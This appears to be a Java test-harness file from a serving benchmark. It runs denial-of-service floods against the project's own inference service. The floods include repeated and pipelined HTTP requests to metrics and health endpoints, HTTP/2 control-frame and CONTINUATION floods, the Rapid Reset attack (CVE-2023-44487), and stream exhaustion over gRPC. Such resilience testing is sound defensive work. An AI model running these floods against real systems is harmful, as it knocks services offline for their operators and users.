package io.resforge.benchmarks.serving.attack;

import io.resforge.v1.InferenceServiceGrpc;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.locks.LockSupport;

/** Requests and frames that are nearly nothing, as fast as the service takes them. */
public final class FloodAttacks {

    private static final String CLASSIFY =
            "/" + InferenceServiceGrpc.getClassifyMethod().getFullMethodName();
    private static final String WATCH = "/grpc.health.v1.Health/Watch";
    private static final String REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
    private static final int ASKERS = 100;
    private static final int FLOODERS = 24;
    private static final int BLOCK = 64 << 10;
    private static final int CALLS = 990;
    private static final long NANOS = 6_000_000_000L;

    private FloodAttacks() {}

    /** Many who ask for a page again and again, each as soon as it has its answer. */
    static String pages(AttackedService service, String path) throws Exception {
        long end = System.nanoTime() + NANOS;
        String asked = "GET " + path + " HTTP/1.1\r\nHost: l\r\nConnection: close\r\n\r\n";
        return Attackers.together(ASKERS, () -> {
            byte[] buffer = new byte[BLOCK];
            while (System.nanoTime() < end) {
                try (Socket socket = service.say(asked)) {
                    while (socket.getInputStream().read(buffer) >= 0) {
                        // what it holds is of no interest
                    }
                } catch (IOException e) {
                    return "cut off";
                }
            }
            return "answered";
        });
    }

    /** Requests one behind the other, whose answers are read or not. */
    static String pipelined(AttackedService service, String path, boolean read) throws Exception {
        byte[] requests =
                ("GET " + path + " HTTP/1.1\r\nHost: l\r\n\r\n").repeat(1_000).getBytes(StandardCharsets.US_ASCII);
        return Attackers.together(FLOODERS, () -> {
            try (Socket socket = service.connect(service.http())) {
                return flood(socket, requests, read);
            }
        });
    }

    /** Frames of a kind over connections of their own, each of them read as far as it answers. */
    static String frames(AttackedService service, List<byte[]> begin, byte[] frame) throws Exception {
        return Attackers.together(FLOODERS, () -> {
            try (Socket socket = service.connect(service.grpc())) {
                socket.getOutputStream().write(HeldCall.preface());
                for (byte[] first : begin) {
                    socket.getOutputStream().write(first);
                }
                return flood(socket, repeated(frame), true);
            } catch (IOException e) {
                return "cut off";
            }
        });
    }

    /** Calls that are begun and taken back at once (CVE-2023-44487). */
    static String resets(AttackedService service) throws Exception {
        return Attackers.together(FLOODERS, () -> {
            try (Socket socket = service.connect(service.grpc())) {
                socket.getOutputStream().write(HeldCall.preface());
                long end = System.nanoTime() + NANOS;
                for (int stream = 1; System.nanoTime() < end; ) {
                    ByteArrayOutputStream some = new ByteArrayOutputStream();
                    for (int i = 0; i < 100; i++, stream += 2) {
                        some.writeBytes(HeldCall.call(CLASSIFY, stream));
                        some.writeBytes(HeldCall.bytes(HeldCall.RESET, 0, stream, new byte[] {0, 0, 0, 8}));
                    }
                    socket.getOutputStream().write(some.toByteArray());
                    skip(socket.getInputStream());
                }
                return "taken";
            } catch (IOException e) {
                return "cut off";
            }
        });
    }

    /** Streams that are never closed. */
    static String streams(AttackedService service, String method, byte[] message) throws Exception {
        return Attackers.together(10, () -> {
            try (Socket socket = service.connect(service.grpc())) {
                socket.getOutputStream().write(HeldCall.preface());
                for (int call = 0; call < CALLS; call++) {
                    int stream = 1 + 2 * call;
                    socket.getOutputStream().write(HeldCall.call(method, stream));
                    socket.getOutputStream().write(HeldCall.bytes(HeldCall.DATA, 0, stream, message));
                    skip(socket.getInputStream());
                }
                LockSupport.parkNanos(NANOS);
                return "held";
            } catch (IOException e) {
                return "cut off";
            }
        });
    }

    /** In the order in which they are run. */
    public static List<Attack> all() {
        byte[] ping = HeldCall.bytes(HeldCall.PING, 0, 0, new byte[8]);
        byte[] settings = HeldCall.bytes(HeldCall.SETTINGS, 0, 0, new byte[0]);
        byte[] priority = HeldCall.bytes((byte) 2, 0, 1, new byte[5]);
        byte[] unknown = HeldCall.bytes((byte) 99, 0, 0, new byte[0]);
        byte[] empty = HeldCall.bytes(HeldCall.DATA, 0, 1, new byte[0]);
        byte[] one = HeldCall.bytes(HeldCall.DATA, 0, 1, new byte[1]);
        byte[] credit = HeldCall.bytes(HeldCall.WINDOW_UPDATE, 0, 1, new byte[] {0, 0, 0, 1});
        byte[] more = HeldCall.bytes((byte) 9, 0, 1, new byte[0]);
        List<byte[]> call = List.of(HeldCall.call(CLASSIFY, 1));
        byte[] unended = HeldCall.call(CLASSIFY, 1);
        unended[4] = 0;
        byte[] watched = {0, 0, 0, 0, 0};
        byte[] listed = {0, 0, 0, 0, 3, 58, 1, '*'};
        return List.of(
                new Attack("100 who ask for metrics again and again", s -> pages(s, "/q/metrics")),
                new Attack("100 who ask for health again and again", s -> pages(s, "/q/health")),
                new Attack("100 who ask for the API's description", s -> pages(s, "/q/openapi")),
                new Attack("metrics one request behind the other", s -> pipelined(s, "/q/metrics", true)),
                new Attack("the same, unread", s -> pipelined(s, "/q/metrics", false)),
                new Attack("health one request behind the other", s -> pipelined(s, "/q/health", true)),
                new Attack("flood of PING", s -> frames(s, List.of(), ping)),
                new Attack("flood of SETTINGS", s -> frames(s, List.of(), settings)),
                new Attack("flood of PRIORITY", s -> frames(s, call, priority)),
                new Attack("flood of unknown frames", s -> frames(s, List.of(), unknown)),
                new Attack("flood of empty DATA", s -> frames(s, call, empty)),
                new Attack("flood of one-byte DATA", s -> frames(s, call, one)),
                new Attack("flood of WINDOW_UPDATE", s -> frames(s, call, credit)),
                new Attack("flood of empty CONTINUATION", s -> frames(s, List.of(unended), more)),
                new Attack("flood of calls taken back at once", FloodAttacks::resets),
                new Attack("9,900 watches of health", s -> streams(s, WATCH, watched)),
                new Attack("9,900 streams of reflection", s -> streams(s, REFLECTION, listed)));
    }

    private static byte[] repeated(byte[] frame) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        while (block.size() < BLOCK) {
            block.writeBytes(frame);
        }
        return block.toByteArray();
    }

    private static String flood(Socket socket, byte[] block, boolean read) {
        long end = System.nanoTime() + NANOS;
        try (Socket open = socket) {
            Thread.ofVirtual().start(() -> {
                LockSupport.parkNanos(NANOS);
                closeQuietly(open);
            });
            while (System.nanoTime() < end) {
                open.getOutputStream().write(block);
                if (read) {
                    skip(open.getInputStream());
                }
            }
            return "taken";
        } catch (IOException e) {
            return System.nanoTime() < end - NANOS / 10 ? "cut off" : "taken";
        }
    }

    private static void closeQuietly(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // it is closed then
        }
    }

    private static void skip(InputStream in) throws IOException {
        while (in.available() > 0) {
            in.skipNBytes(in.available());
        }
    }
}
